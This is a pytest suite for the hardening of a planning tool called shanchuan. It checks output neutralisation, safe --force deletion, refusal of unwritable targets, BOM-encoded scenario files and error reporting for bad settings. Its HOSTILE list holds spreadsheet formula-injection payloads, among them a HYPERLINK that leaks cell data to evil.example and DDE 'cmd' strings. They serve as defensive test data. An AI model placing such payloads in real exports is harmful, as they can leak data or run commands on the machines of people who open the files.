"""Hardening (issue 15): untrusted text never becomes a live formula, --force deletes only a
shanchuan run, unwritable outputs are refused before solving, Windows-saved scenarios load."""

from __future__ import annotations

import codecs
import io
import json
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest

from shanchuan import cli
from shanchuan import scenario as sc_mod
from shanchuan.errors import OutputExistsError
from shanchuan.outputs import archive, formulas, workbook
from shanchuan.outputs import csv as csv_format

DEFAULT_DIR = sc_mod.builtin_path("hubei-2021").parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


class _Tables:
    def __init__(self, frame: pd.DataFrame) -> None:
        self.frame = frame

    def tables(self) -> dict[str, pd.DataFrame]:
        return {"projects.csv": self.frame}


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "title": [*HOSTILE, "竹溪县魔芋加工"],
            "cost_wan": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "year": list(range(2021, 2029)),
        }
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed(text: str) -> None:
    assert formulas.is_formula_like(text)
    assert formulas.neutralise(text) == "'" + text


def test_csv_neutralises_text_and_keeps_numbers() -> None:
    back = pd.read_csv(io.StringIO(csv_format.frame_text(_frame())), keep_default_na=False)
    assert list(back["title"][: len(HOSTILE)]) == ["'" + t for t in HOSTILE]
    assert back["title"].iloc[-1] == "竹溪县魔芋加工"
    assert back["cost_wan"].iloc[0] == -5.0  # a negative number stays a number
    assert back["year"].dtype.kind == "i"


def _cells(text: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_on_stdout_and_in_archive_are_neutralised() -> None:
    stream = io.StringIO()
    csv_format.emit(_Tables(_frame()), stream, csv_format.OutputOptions())
    member = csv_format.members(_Tables(_frame()), csv_format.OutputOptions())["projects.csv"]
    for text in (stream.getvalue(), member.decode("utf-8-sig")):
        cells = _cells(text)
        assert len(cells) == 3 * (len(HOSTILE) + 2)  # the \r cell did not break its row
        assert not [c for c in cells if formulas.is_formula_like(c) and c != "-5.0"]


def test_workbook_holds_typed_text_cells_never_formulas() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    buf = io.BytesIO()
    workbook.emit(_Tables(_frame()), buf, workbook.OutputOptions())
    sheet = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    # the text itself is kept (XML reads a bare \r back as \n: line-end normalisation)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)
    assert sheet.cell(row=2, column=2).value == -5.0  # numbers stay numbers


def test_end_to_end_hostile_title_reaches_no_spreadsheet_as_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "hubei"
    shutil.copytree(DEFAULT_DIR, folder)
    projects = folder / "projects.csv"
    frame = pd.read_csv(projects, dtype=str, keep_default_na=False)
    frame["title"] = HOSTILE[1] + " " + frame["id"]  # whichever project is funded
    frame.to_csv(projects, index=False)
    out = tmp_path / "run"
    code = cli.main(
        [
            "-q",
            "allocate",
            str(folder),
            "--out",
            str(out),
            "--excel",
            "--set",
            "allocation.analysis.rule_costs=false",
            "--set",
            "allocation.analysis.force_unfunded=0",
        ]
    )
    _, err = capsys.readouterr()
    assert code == 0, err
    for csv_file in out.glob("*.csv"):
        for line in csv_file.read_text(encoding="utf-8-sig").splitlines():
            for cell in line.split(","):
                assert not cell.startswith(("=", "@")), (csv_file.name, cell)
    result = json.loads((out / "result.json").read_text(encoding="utf-8"))
    assert HOSTILE[1] in json.dumps(result, ensure_ascii=False)  # JSON keeps the original
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(out / "results.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row)


# -- --force replaces only a shanchuan run ----------------------------------------------


def _write(out: Path, *, force: bool = False) -> Path:
    return archive.write_archive(
        out, manifest={"status": "optimal"}, files=[("result.json", b"{}\n")], force=force
    )


def test_a_look_alike_manifest_does_not_make_a_folder_replaceable(tmp_path: Path) -> None:
    mine = tmp_path / "my-folder"
    mine.mkdir()
    (mine / "manifest.json").write_text('{"manifest_version": 3, "name": "web extension"}')
    (mine / "notes.docx").write_bytes(b"precious")
    with pytest.raises(OutputExistsError, match="not a shanchuan run"):
        _write(mine, force=True)
    assert (mine / "notes.docx").read_bytes() == b"precious"
    assert sorted(p.name for p in mine.iterdir()) == ["manifest.json", "notes.docx"]


def test_a_run_folder_with_a_users_file_added_is_refused(tmp_path: Path) -> None:
    out = _write(tmp_path / "run")
    (out / "my-notes.txt").write_text("keep me")
    with pytest.raises(OutputExistsError, match=r"files that run did not write \(my-notes.txt\)"):
        _write(out, force=True)
    assert (out / "my-notes.txt").read_text() == "keep me"


def test_the_manifest_carries_the_marker_and_force_replaces_a_real_run(tmp_path: Path) -> None:
    out = _write(tmp_path / "run")
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["tool"] == "shanchuan" and manifest["run_format"] == archive.RUN_FORMAT
    assert manifest["files"] == ["result.json"]
    _write(out, force=True)
    assert sorted(p.name for p in out.iterdir()) == ["manifest.json", "result.json"]


def test_cli_force_on_a_look_alike_folder_exits_2_and_deletes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = tmp_path / "my-folder"
    mine.mkdir()
    (mine / "manifest.json").write_text("{}")
    (mine / "photo.jpg").write_bytes(b"\xff\xd8")
    code = cli.main(["-q", "match", "--out", str(mine), "--force"])
    _, err = capsys.readouterr()
    assert code == 2
    assert "not a shanchuan run" in err
    assert (mine / "photo.jpg").read_bytes() == b"\xff\xd8"


# -- unwritable outputs are refused before solving ---------------------------------------


def test_a_file_in_the_way_of_the_parent_is_refused(tmp_path: Path) -> None:
    blocker = tmp_path / "report.txt"
    blocker.write_text("x")
    with pytest.raises(OutputExistsError, match="is a file, not a folder"):
        archive.check_target(blocker / "run", force=False)


def test_a_dangling_symlink_is_refused(tmp_path: Path) -> None:
    link = tmp_path / "run"
    link.symlink_to(tmp_path / "gone")
    with pytest.raises(OutputExistsError, match="does not exist"):
        archive.check_target(link, force=False)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_parent_is_refused(tmp_path: Path) -> None:
    parent = tmp_path / "ro"
    parent.mkdir()
    parent.chmod(0o555)
    try:
        with pytest.raises(OutputExistsError, match="no permission"):
            archive.check_target(parent / "run", force=False)
    finally:
        parent.chmod(0o755)


def test_cli_refuses_an_unwritable_out_before_solving(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    code = cli.main(["match", "--out", str(blocker / "run")])
    _, err = capsys.readouterr()
    assert code == 2
    assert "is a file, not a folder" in err
    assert "solv" not in err.lower()  # refused before any solving started


# -- files as Windows users save them -----------------------------------------------------


def test_scenario_toml_with_a_bom_loads(tmp_path: Path) -> None:
    f = tmp_path / "s.toml"
    f.write_bytes(
        codecs.BOM_UTF8 + b'[scenario]\nextends = "hubei-2021"\n[matching.rules]\nstable = true\n'
    )
    assert sc_mod.load(f).settings.matching.rules.stable is True


def test_scenario_json_with_a_bom_loads(tmp_path: Path) -> None:
    f = tmp_path / "s.json"
    body = {"scenario": {"extends": "hubei-2021"}, "matching": {"rules": {"stable": True}}}
    f.write_bytes(codecs.BOM_UTF8 + json.dumps(body).encode("utf-8"))
    assert sc_mod.load(f).settings.matching.rules.stable is True


# -- every bad setting refused at load time, where it was set ----------------------------

#: (form, how it is given, the location the message must name, key). ``form`` is "file"
#: (a TOML table written into a scenario file extending hubei-2021), "parent" (the same,
#: one level up the extends chain), "set" (``--set KEY=VALUE``) or "flag" (argv).
BAD_SETTINGS: list[tuple[str, str, str, str]] = [
    ("file", "[matching.solver]\ntime_limit = -1", "child.toml", "matching.solver.time_limit"),
    ("file", "[matching.solver]\ngap = 1.5", "child.toml", "matching.solver.gap"),
    ("file", "[allocation.solver]\nthreads = 0", "child.toml", "allocation.solver.threads"),
    ("file", '[matching.explain]\nlanguage = "fr"', "child.toml", "matching.explain.language"),
    ("file", "[allocation.analysis]\nworkers = 0", "child.toml", "allocation.analysis.workers"),
    ("file", '[data]\nprojects = "nope.csv"', "child.toml", "data.projects"),
    ("parent", "[matching.solver]\ntime_limit = nan", "parent.toml", "matching.solver.time_limit"),
    (
        "parent",
        "[allocation.analysis]\nbisection_steps = 0",
        "parent.toml",
        "allocation.analysis.bisection_steps",
    ),
    ("set", "matching.solver.time_limit=0", "--set", "matching.solver.time_limit"),
    ("set", "matching.solver.time_limit=nan", "--set", "matching.solver.time_limit"),
    ("set", "allocation.solver.gap=1", "--set", "allocation.solver.gap"),
    ("set", "matching.solver.threads=-3", "--set", "matching.solver.threads"),
    ("set", "matching.explain.language=fr", "--set", "matching.explain.language"),
    (
        "set",
        "matching.sensitivity.spread=-1",
        "--set",
        "matching.sensitivity.spread",
    ),
    ("set", "matching.sensitivity.seed=-1", "--set", "matching.sensitivity.seed"),
    ("set", "allocation.analysis.solver=gurobi", "--set", "allocation.analysis.solver"),
    ("set", "allocation.analysis.force_unfunded=-2", "--set", "allocation.analysis.force_unfunded"),
    ("set", "allocation.first_year=99999", "--set", "allocation.first_year"),
    ("set", 'data.counties="/nonexistent/counties.csv"', "--set", "data.counties"),
    ("flag", "--alternatives -1", "--alternatives", ""),
    ("flag", "--sensitivity -5", "--sensitivity", ""),
    ("flag", "--alternatives 5000", "--alternatives", ""),
    ("flag", "--pairs /nonexistent/pairs.csv", "--pairs", "data.pairs"),
    ("flag", "--lang fr", "--lang", ""),
]


@pytest.fixture
def no_solving(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail loudly (exit 4 "internal error") if any stage past loading is reached."""
    from shanchuan import stages

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a stage past loading was reached")

    monkeypatch.setattr(stages, "prepare", refuse)
    monkeypatch.setattr(stages, "solve", refuse)


@pytest.mark.parametrize(("form", "given", "where", "key"), BAD_SETTINGS)
def test_a_bad_setting_is_exit_2_with_its_location_before_any_solve(
    form: str,
    given: str,
    where: str,
    key: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    no_solving: None,
) -> None:
    command = (
        "allocate" if any(w in given for w in ("allocation", "--pairs", "projects")) else "match"
    )
    argv = [command]
    if form in ("file", "parent"):
        child = tmp_path / "child.toml"
        if form == "file":
            child.write_text(f'[scenario]\nextends = "hubei-2021"\n{given}\n', encoding="utf-8")
        else:
            (tmp_path / "parent.toml").write_text(
                f'[scenario]\nextends = "hubei-2021"\n{given}\n', encoding="utf-8"
            )
            child.write_text('[scenario]\nextends = "parent.toml"\n', encoding="utf-8")
        argv.append(str(child))
    elif form == "set":
        argv += ["--set", given]
    else:
        argv += given.split()
    try:
        code = cli.main(argv)
    except SystemExit as exc:  # argparse's own refusal (--lang fr)
        code = int(exc.code or 0)
    _, err = capsys.readouterr()
    assert code == 2, err
    assert "internal error" not in err
    assert where in err, err
    if key:
        assert f"key '{key}'" in err, err
    if form != "flag" or "--pairs" in given:
        value = given.split("=", 1)[-1].split()[-1].strip('"')
        assert value in err and "expected" in err, err  # the value and what was expected


def test_all_problems_at_once_each_where_it_was_set(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], no_solving: None
) -> None:
    child = tmp_path / "child.toml"
    child.write_text(
        '[scenario]\nextends = "hubei-2021"\n[matching.solver]\ngap = 2\n', encoding="utf-8"
    )
    code = cli.main(
        ["match", str(child), "--set", "matching.solver.threads=0", "--alternatives", "-1"]
    )
    _, err = capsys.readouterr()
    assert code == 2
    # The flag is checked first (no scenario is read for a bad flag), then every key at once.
    assert "--alternatives" in err
    code = cli.main(["match", str(child), "--set", "matching.solver.threads=0"])
    _, err = capsys.readouterr()
    assert code == 2
    assert "2 problems" in err
    assert f"{child}, key 'matching.solver.gap'" in err
    assert "--set, key 'matching.solver.threads'" in err


def test_an_engine_cross_check_is_filed_under_its_key(capsys: pytest.CaptureFixture[str]) -> None:
    code = cli.main(
        [
            "allocate",
            "--set",
            "allocation.analysis.workers=0",
            "--set",
            "allocation.projects_per_year_min=120",
        ]
    )
    _, err = capsys.readouterr()
    assert code == 2
    assert "--set, key 'allocation.analysis.workers': invalid value (got 0)" in err
    assert (
        "--set, key 'allocation.projects_per_year_min': projects_per_year_min (120) exceeds" in err
    )


def test_extends_naming_a_missing_file_names_the_file_and_key(tmp_path: Path) -> None:
    (tmp_path / "a.toml").write_text('[scenario]\nextends = "nope.toml"\n', encoding="utf-8")
    (tmp_path / "b.toml").write_text('[scenario]\nextends = "a.toml"\n', encoding="utf-8")
    with pytest.raises(sc_mod.ScenarioError) as info:
        sc_mod.load(tmp_path / "b.toml")
    (p,) = info.value.problems
    assert p.file == str(tmp_path / "a.toml") and p.column == "scenario.extends"
    assert p.value == "nope.toml"
    assert f"{tmp_path / 'a.toml'}, key 'scenario.extends': names no scenario file" in str(p)


# -- oversize files and cells; knock-on problems ------------------------------------------


def _copy_default(tmp_path: Path) -> Path:
    folder = tmp_path / "scen"
    shutil.copytree(DEFAULT_DIR, folder)
    return folder


def test_an_oversize_cell_names_file_row_and_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shanchuan.errors import InputError

    folder = _copy_default(tmp_path)
    lines = (folder / "projects.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[3].split(",")
    cells[header.index("title")] = "x" * 40_000
    lines[3] = ",".join(cells)
    (folder / "projects.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputError) as info:
        shanchuan_load(folder).data("allocation")
    text = str(info.value)
    assert "projects.csv, row 4, column 'title': the cell holds 40,000 characters" in text
    assert "limit of 32,767" in text and "SHANCHUAN_MAX_CELL_CHARS" in text
    assert "x" * 100 not in text  # the cell is not echoed
    monkeypatch.setenv("SHANCHUAN_MAX_CELL_CHARS", "50000")
    shanchuan_load(folder).data("allocation")  # the limit is configurable


def test_an_oversize_file_is_refused_with_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shanchuan.errors import InputError

    folder = _copy_default(tmp_path)
    monkeypatch.setenv("SHANCHUAN_MAX_FILE_MB", "0.01")
    with pytest.raises(InputError, match=r"projects.csv: the file is 0.\d MB, more than the limit"):
        shanchuan_load(folder).data("allocation")
    monkeypatch.setenv("SHANCHUAN_MAX_FILE_MB", "lots")
    with pytest.raises(InputError, match=r"environment variable SHANCHUAN_MAX_FILE_MB: invalid"):
        shanchuan_load(folder).data("allocation")


def test_knock_on_problems_of_an_empty_counties_file_are_summarised(tmp_path: Path) -> None:
    from shanchuan.errors import InputError

    folder = _copy_default(tmp_path)
    header = (folder / "counties.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    (folder / "counties.csv").write_text(header + "\n", encoding="utf-8")
    with pytest.raises(InputError) as info:
        shanchuan_load(folder).data("matching")
    problems = info.value.problems
    assert len(problems) < 10
    assert "counties.csv" in problems[0].file and "no data rows" in problems[0].message
    summary = [p for p in problems if p.message.startswith("… and ")]
    assert summary and "follow from the problems of counties.csv" in summary[0].message
    assert int(summary[0].message.split()[2]) > 100


def test_an_independent_problem_is_not_hidden_as_a_knock_on(tmp_path: Path) -> None:
    from shanchuan.errors import InputError

    folder = _copy_default(tmp_path)
    lines = (folder / "sectors.csv").read_text(encoding="utf-8-sig").splitlines()
    (folder / "sectors.csv").write_text("\n".join(lines[:1]) + "\n", encoding="utf-8")
    rows = (folder / "regions.csv").read_text(encoding="utf-8-sig").splitlines()
    first = rows[1].split(",")
    first[0] = "不存在市"
    rows[1] = ",".join(first)
    (folder / "regions.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(InputError) as info:
        shanchuan_load(folder).data("matching")
    text = str(info.value)
    # The prefecture missing from regions.csv does not follow from sectors.csv: still listed.
    assert "prefecture '武汉市' is not in" in text, text


def shanchuan_load(folder: Path):
    import shanchuan

    return shanchuan.load(folder)


def test_run_reports_a_bad_project_file_before_solving_the_pairing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], no_solving: None
) -> None:
    bad = tmp_path / "projects.csv"
    bad.write_text("id,recipient\nX,nowhere\n", encoding="utf-8")
    code = cli.main(["run", "--fast", "--set", f'data.projects="{bad.as_posix()}"'])
    _, err = capsys.readouterr()
    assert code == 2, err
    assert f"{bad}, row 1, column 'title': missing required column" in err
